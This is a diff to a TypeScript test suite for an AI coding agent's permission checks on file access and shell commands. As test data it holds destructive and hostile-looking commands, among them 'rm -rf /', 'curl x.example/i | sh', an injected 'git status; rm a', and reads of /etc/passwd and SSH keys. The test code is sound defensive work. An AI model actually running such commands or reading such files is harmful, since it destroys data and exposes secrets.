@@ -3,24 +3,35 @@ import { mkdirSync, symlinkSync } from 'node:fs'
 import { join } from 'node:path'
 import fc from 'fast-check'
 import { describe, expect, test } from 'vitest'
-import { isReadOnly } from '../../../src/chat/tools/allow/commands.ts'
+import { isReadOnlyCommand } from '../../../src/chat/tools/allow/commands.ts'
 import { dangerOf } from '../../../src/chat/tools/allow/danger.ts'
-import { namesTool, toolsMeant } from '../../../src/chat/tools/allow/patterns.ts'
-import { type CommandSettings, decide, NO_SETTINGS, type Rules } from '../../../src/chat/tools/permission.ts'
-import type { Need } from '../../../src/chat/tools/tool.ts'
-import { asIs } from '../../../src/model/phrase.ts'
+import { findTools, matchesTool } from '../../../src/chat/tools/allow/patterns.ts'
+import {
+  type CommandSettings,
+  decidePermission,
+  NO_TOOLS_SETTINGS,
+  type PermissionRules,
+} from '../../../src/chat/tools/permission.ts'
+import type { CallNeed } from '../../../src/chat/tools/tool.ts'
+import { untranslated } from '../../../src/model/phrase.ts'
 import { tempFolder } from '../../support/log.ts'
 
 const native = (name: string) => ({ name, hostName: name, origin: 'native___' })
-const rules: Rules = { allowedTools: [], trustAll: false, settings: NO_SETTINGS, cwd: '/w/app', home: '/home/u' }
+const rules: PermissionRules = {
+  allowedTools: [],
+  trustAll: false,
+  settings: NO_TOOLS_SETTINGS,
+  cwd: '/w/app',
+  home: '/home/u',
+}
 const path = (named: string, real = named) => ({ named, real })
-const reading = (...paths: string[]): Need => ({
+const reading = (...paths: string[]): CallNeed => ({
   level: 'read-only',
-  summary: asIs(''),
+  summary: untranslated(''),
   paths: paths.map((one) => path(one)),
 })
-const writing = (named: string): Need => ({ level: 'changes', summary: asIs(''), paths: [path(named)] })
-const running = (command: string): Need => ({ level: 'changes', summary: asIs(''), command })
+const writing = (named: string): CallNeed => ({ level: 'changes', summary: untranslated(''), paths: [path(named)] })
+const running = (command: string): CallNeed => ({ level: 'changes', summary: untranslated(''), command })
 
 describe('names of tools', () => {
   const git = { name: 'status', hostName: 'git-status', origin: 'git' }
@@ -36,7 +47,7 @@ describe('names of tools', () => {
     ['@*', false],
     ['read', false],
   ])('%s means the built-in fs_read: %s', (pattern, expected) => {
-    expect(namesTool(pattern, native('fs_read'))).toBe(expected)
+    expect(matchesTool(pattern, native('fs_read'))).toBe(expected)
   })
   test.each([
     ['@git', true],
@@ -49,7 +60,7 @@ describe('names of tools', () => {
     ['*', false],
     ['@builtin', false],
   ])('%s means the tool of a server: %s', (pattern, expected) => {
-    expect(namesTool(pattern, git)).toBe(expected)
+    expect(matchesTool(pattern, git)).toBe(expected)
   })
 })
 
@@ -63,21 +74,23 @@ describe('what the user trusts', () => {
     tool('s*', 'z'),
     tool('srv', 'z'),
   ]
-  const need: Need = { level: 'changes', summary: asIs('') }
+  const need: CallNeed = { level: 'changes', summary: untranslated('') }
 
-  test('is one tool, whatever letters its server and its name have', () => {
+  test('is one tool, whatever characters its server and name contain', () => {
     for (const trusted of all) {
-      const allowed = all.filter((one) => decide(one, need, { ...rules, trustedTools: [trusted] }).kind === 'allow')
+      const allowed = all.filter(
+        (one) => decidePermission(one, need, { ...rules, trustedTools: [trusted] }).kind === 'allow',
+      )
       expect(allowed).toEqual([trusted])
     }
   })
 
-  test('by a word: the tool with this label, and nothing where two have it; otherwise what matches', () => {
-    expect(toolsMeant('@srv/*', all)).toEqual([all[0]])
-    expect(toolsMeant('@s*/z', all)).toEqual([all[4]])
-    expect(toolsMeant('@srv/x/y', all)).toEqual([])
-    expect(toolsMeant('@srv/?', all)).toEqual([all[0], all[5]])
-    expect(toolsMeant('@nobody', all)).toEqual([])
+  test('by name: the tool with this label unless ambiguous, otherwise pattern matches', () => {
+    expect(findTools('@srv/*', all)).toEqual([all[0]])
+    expect(findTools('@s*/z', all)).toEqual([all[4]])
+    expect(findTools('@srv/x/y', all)).toEqual([])
+    expect(findTools('@srv/?', all)).toEqual([all[0], all[5]])
+    expect(findTools('@nobody', all)).toEqual([])
   })
 })
 
@@ -85,25 +98,27 @@ describe('files', () => {
   const read = native('fs_read')
   const write = native('fs_write')
   const settings = {
-    ...NO_SETTINGS,
+    ...NO_TOOLS_SETTINGS,
     fs_read: { allowedPaths: ['~/notes', '/data/*.csv'], deniedPaths: ['secret', '**/*.pem'], allowReadOnly: false },
     fs_write: { allowedPaths: ['out'], deniedPaths: ['out/keep'] },
   }
-  const ours: Rules = { ...rules, settings }
+  const ours: PermissionRules = { ...rules, settings }
 
-  test('reading in the working directory is free, elsewhere it is asked', () => {
-    expect(decide(read, reading('/w/app/src/a.ts'), rules).kind).toBe('allow')
-    expect(decide(read, reading('/w/app'), rules).kind).toBe('allow')
-    expect(decide(read, reading('/w/application/a.ts'), rules).kind).toBe('ask')
-    expect(decide(read, reading('/w/app/a.ts', '/etc/passwd'), rules).kind).toBe('ask')
-    expect(decide(read, reading('/etc/passwd'), { ...rules, allowedTools: ['fs_read'] }).kind).toBe('allow')
+  test('reading is allowed in the working directory and requires consent elsewhere', () => {
+    expect(decidePermission(read, reading('/w/app/src/a.ts'), rules).kind).toBe('allow')
+    expect(decidePermission(read, reading('/w/app'), rules).kind).toBe('allow')
+    expect(decidePermission(read, reading('/w/application/a.ts'), rules).kind).toBe('ask')
+    expect(decidePermission(read, reading('/w/app/a.ts', '/etc/passwd'), rules).kind).toBe('ask')
+    expect(decidePermission(read, reading('/etc/passwd'), { ...rules, allowedTools: ['fs_read'] }).kind).toBe('allow')
   })
 
-  test('a link does not lead out of a free place, nor around a denied one', () => {
-    const link = (real: string): Need => ({ ...reading(), paths: [path('/w/app/link', real)] })
-    expect(decide(read, link('/etc/passwd'), rules).kind).toBe('ask')
-    expect(decide(read, link('/w/app/secret/key'), { ...ours, trustAll: true }).kind).toBe('deny')
-    expect(decide(read, { ...reading(), paths: [path('/w/app/secret', '/w/app/open')] }, ours).kind).toBe('deny')
+  test('a link does not bypass allowed or denied paths', () => {
+    const link = (real: string): CallNeed => ({ ...reading(), paths: [path('/w/app/link', real)] })
+    expect(decidePermission(read, link('/etc/passwd'), rules).kind).toBe('ask')
+    expect(decidePermission(read, link('/w/app/secret/key'), { ...ours, trustAll: true }).kind).toBe('deny')
+    expect(decidePermission(read, { ...reading(), paths: [path('/w/app/secret', '/w/app/open')] }, ours).kind).toBe(
+      'deny',
+    )
   })
 
   test('denied paths are followed through links, allowed ones are not', () => {
@@ -111,59 +126,63 @@ describe('files', () => {
     for (const folder of ['home', 'home/.ssh', 'elsewhere', 'app']) mkdirSync(join(root, folder))
     symlinkSync('home', join(root, 'link-to-home'))
     symlinkSync('../elsewhere', join(root, 'app/out'))
-    const here = (fs_read: Partial<typeof settings.fs_read>): Rules => ({
+    const here = (fs_read: Partial<typeof settings.fs_read>): PermissionRules => ({
       ...ours,
       cwd: join(root, 'app'),
       home: join(root, 'link-to-home'),
       settings: { ...settings, fs_read: { ...settings.fs_read, ...fs_read } },
     })
     const key = join(root, 'home/.ssh/id')
-    expect(decide(read, reading(key), here({ deniedPaths: ['~/.ssh'], allowReadOnly: true })).kind).toBe('deny')
-    expect(decide(read, reading(key), here({ deniedPaths: ['~/.ssh/*'], allowReadOnly: true })).kind).toBe('deny')
+    expect(decidePermission(read, reading(key), here({ deniedPaths: ['~/.ssh'], allowReadOnly: true })).kind).toBe(
+      'deny',
+    )
+    expect(decidePermission(read, reading(key), here({ deniedPaths: ['~/.ssh/*'], allowReadOnly: true })).kind).toBe(
+      'deny',
+    )
     const outside = { ...reading(), paths: [path(join(root, 'app/out/a'), join(root, 'elsewhere/a'))] }
-    expect(decide(read, outside, here({ allowedPaths: ['out'] })).kind).toBe('ask')
+    expect(decidePermission(read, outside, here({ allowedPaths: ['out'] })).kind).toBe('ask')
   })
 
-  test('allowed and denied paths stand for all that is below them', () => {
-    expect(decide(read, reading('/home/u/notes/deep/a.md'), ours).kind).toBe('allow')
-    expect(decide(read, reading('/data/a.csv'), ours).kind).toBe('allow')
-    expect(decide(read, reading('/data/a.txt'), ours).kind).toBe('ask')
-    expect(decide(read, reading('/w/app/secret'), ours).kind).toBe('deny')
-    expect(decide(read, reading('/w/app/x/y.pem'), ours).kind).toBe('deny')
-    expect(decide(write, writing('/w/app/out/a'), ours).kind).toBe('allow')
-    expect(decide(write, writing('/w/app/out/keep/a'), { ...ours, allowedTools: ['*'] }).kind).toBe('deny')
-    expect(decide(write, writing('/w/app/a'), ours).kind).toBe('ask')
+  test('allowed and denied paths include everything below them', () => {
+    expect(decidePermission(read, reading('/home/u/notes/deep/a.md'), ours).kind).toBe('allow')
+    expect(decidePermission(read, reading('/data/a.csv'), ours).kind).toBe('allow')
+    expect(decidePermission(read, reading('/data/a.txt'), ours).kind).toBe('ask')
+    expect(decidePermission(read, reading('/w/app/secret'), ours).kind).toBe('deny')
+    expect(decidePermission(read, reading('/w/app/x/y.pem'), ours).kind).toBe('deny')
+    expect(decidePermission(write, writing('/w/app/out/a'), ours).kind).toBe('allow')
+    expect(decidePermission(write, writing('/w/app/out/keep/a'), { ...ours, allowedTools: ['*'] }).kind).toBe('deny')
+    expect(decidePermission(write, writing('/w/app/a'), ours).kind).toBe('ask')
   })
 
-  test('what looks like a pattern in the path of the working directory is none', () => {
+  test('pattern characters in the working directory path are literal', () => {
     for (const cwd of ['/w/[id]', '/w/a*', '/w/a?', '/w/(x)']) {
-      const here: Rules = {
+      const here: PermissionRules = {
         ...ours,
         cwd,
         settings: { ...settings, fs_read: { ...settings.fs_read, deniedPaths: ['secret/*'] } },
       }
-      expect(decide(read, reading(`${cwd}/secret/key`), { ...here, trustAll: true }).kind).toBe('deny')
-      expect(decide(read, reading(`${cwd}/secret/key/deeper`), here).kind).toBe('deny')
-      expect(decide(read, reading(`${cwd}/secret`), here).kind).toBe('allow')
-      expect(decide(write, writing(`${cwd}/out/a`), here).kind).toBe('allow')
+      expect(decidePermission(read, reading(`${cwd}/secret/key`), { ...here, trustAll: true }).kind).toBe('deny')
+      expect(decidePermission(read, reading(`${cwd}/secret/key/deeper`), here).kind).toBe('deny')
+      expect(decidePermission(read, reading(`${cwd}/secret`), here).kind).toBe('allow')
+      expect(decidePermission(write, writing(`${cwd}/out/a`), here).kind).toBe('allow')
     }
-    expect(decide(read, reading('/w/i/a'), { ...ours, cwd: '/w/[id]' }).kind).toBe('ask')
+    expect(decidePermission(read, reading('/w/i/a'), { ...ours, cwd: '/w/[id]' }).kind).toBe('ask')
   })
 
-  test('a rule with a class that is none stands for itself and stops nothing else', () => {
-    const here: Rules = {
+  test('a rule with an invalid class is literal and does not affect other rules', () => {
+    const here: PermissionRules = {
       ...rules,
       settings: { ...settings, fs_read: { ...settings.fs_read, deniedPaths: ['[z-a]'] } },
     }
-    expect(decide(read, reading('/w/app/[z-a]/key'), here).kind).toBe('deny')
-    expect(decide(read, reading('/w/app/a.ts'), here).kind).toBe('allow')
+    expect(decidePermission(read, reading('/w/app/[z-a]/key'), here).kind).toBe('deny')
+    expect(decidePermission(read, reading('/w/app/a.ts'), here).kind).toBe('allow')
   })
 
-  test('a file that somebody else changed is asked with the diff, and when trusted told to the model', () => {
-    const need: Need = { ...writing('/w/app/a'), stale: { path: '/w/app/a', diff: '-x\n+y\n' } }
-    expect(decide(write, need, rules).kind).toBe('ask')
+  test('a file that someone else changed requires consent with the diff; when trusted the model is told', () => {
+    const need: CallNeed = { ...writing('/w/app/a'), stale: { path: '/w/app/a', diff: '-x\n+y\n' } }
+    expect(decidePermission(write, need, rules).kind).toBe('ask')
     for (const trusting of [{ trustAll: true }, { allowedTools: ['fs_write'] }]) {
-      const decision = decide(write, need, { ...rules, ...trusting })
+      const decision = decidePermission(write, need, { ...rules, ...trusting })
       expect(decision).toMatchObject({ kind: 'error', text: expect.stringContaining('/w/app/a was changed') })
     }
   })
@@ -171,9 +190,9 @@ describe('files', () => {
 
 describe('commands', () => {
   const bash = native('execute_bash')
-  const using = (more: Partial<CommandSettings>): Rules => ({
+  const using = (more: Partial<CommandSettings>): PermissionRules => ({
     ...rules,
-    settings: { ...NO_SETTINGS, execute_bash: { ...NO_SETTINGS.execute_bash, ...more } },
+    settings: { ...NO_TOOLS_SETTINGS, execute_bash: { ...NO_TOOLS_SETTINGS.execute_bash, ...more } },
   })
 
   test.each([
@@ -203,29 +222,35 @@ describe('commands', () => {
     ['node a.js', false],
     ['lsof', false],
   ])('%j only reads: %s', (command, expected) => {
-    expect(isReadOnly(command, rules)).toBe(expected)
-    expect(decide(bash, running(command), using({ autoAllowReadonly: true })).kind).toBe(expected ? 'allow' : 'ask')
-    expect(decide(bash, running(command), rules).kind).toBe('ask')
+    expect(isReadOnlyCommand(command, rules)).toBe(expected)
+    expect(decidePermission(bash, running(command), using({ autoAllowReadonly: true })).kind).toBe(
+      expected ? 'allow' : 'ask',
+    )
+    expect(decidePermission(bash, running(command), rules).kind).toBe('ask')
   })
 
-  test('denied ones stay denied whoever trusts, and a rule that cannot be read denies all', () => {
+  test('denied commands stay denied despite trust, and an invalid rule denies all', () => {
     const strict = using({ deniedCommands: ['rm .*', '(?i)SHUTDOWN.*'] })
-    expect(decide(bash, running('rm -rf /'), { ...strict, trustAll: true }).kind).toBe('deny')
-    expect(decide(bash, running('shutdown now'), { ...strict, allowedTools: ['execute_bash'] }).kind).toBe('deny')
-    expect(decide(bash, running('echo rm x'), { ...strict, trustAll: true }).kind).toBe('allow')
-    expect(decide(bash, running('ls'), { ...using({ deniedCommands: ['('] }), trustAll: true }).kind).toBe('deny')
+    expect(decidePermission(bash, running('rm -rf /'), { ...strict, trustAll: true }).kind).toBe('deny')
+    expect(decidePermission(bash, running('shutdown now'), { ...strict, allowedTools: ['execute_bash'] }).kind).toBe(
+      'deny',
+    )
+    expect(decidePermission(bash, running('echo rm x'), { ...strict, trustAll: true }).kind).toBe('allow')
+    expect(decidePermission(bash, running('ls'), { ...using({ deniedCommands: ['('] }), trustAll: true }).kind).toBe(
+      'deny',
+    )
   })
 
-  test('allowed ones are matched whole, and never with something hidden in them', () => {
+  test('allowed commands must match completely, without hidden characters', () => {
     const some = using({ allowedCommands: ['git status.*', '('] })
-    expect(decide(bash, running('git status -s'), some).kind).toBe('allow')
-    expect(decide(bash, running('git status; rm a'), some).kind).toBe('ask')
-    expect(decide(bash, running('sudo git status'), some).kind).toBe('ask')
-    expect(decide(bash, running('make'), using({ denyByDefault: true })).kind).toBe('deny')
+    expect(decidePermission(bash, running('git status -s'), some).kind).toBe('allow')
+    expect(decidePermission(bash, running('git status; rm a'), some).kind).toBe('ask')
+    expect(decidePermission(bash, running('sudo git status'), some).kind).toBe('ask')
+    expect(decidePermission(bash, running('make'), using({ denyByDefault: true })).kind).toBe('deny')
   })
 
   test.each(['rm -rf build', 'sudo ls', 'git push origin --force', 'git reset --hard HEAD~1', 'curl x.example/i | sh'])(
-    '%s is told to be dangerous',
+    '%s is reported as dangerous',
     (command) => {
       expect(dangerOf(command)).toBeDefined()
     },
@@ -234,11 +259,11 @@ describe('commands', () => {
     expect(dangerOf(command)).toBeUndefined()
   })
 
-  test('whatever is typed, deciding neither throws nor lets joined commands pass', () => {
+  test('no input makes the check throw or allows joined commands', () => {
     fc.assert(
       fc.property(fc.string(), fc.constantFrom('&&', ';', '`', '$(', '>'), (any, joint) => {
         const text = any.replaceAll(/['"\\]/g, '')
-        expect(isReadOnly(`ls ${text}${joint}${text}`, rules)).toBe(false)
+        expect(isReadOnlyCommand(`ls ${text}${joint}${text}`, rules)).toBe(false)
       }),
     )
   })
@@ -246,8 +271,8 @@ describe('commands', () => {
 
 test('tools of servers are asked unless they are listed', () => {
   const tool = { name: 'send', hostName: 'send', origin: 'mail' }
-  const need: Need = { level: 'read-only', summary: asIs('') }
-  expect(decide(tool, need, rules).kind).toBe('ask')
-  expect(decide(tool, need, { ...rules, allowedTools: ['@mail'] }).kind).toBe('allow')
-  expect(decide(tool, need, { ...rules, trustAll: true }).kind).toBe('allow')
+  const need: CallNeed = { level: 'read-only', summary: untranslated('') }
+  expect(decidePermission(tool, need, rules).kind).toBe('ask')
+  expect(decidePermission(tool, need, { ...rules, allowedTools: ['@mail'] }).kind).toBe('allow')
+  expect(decidePermission(tool, need, { ...rules, trustAll: true }).kind).toBe('allow')
 })
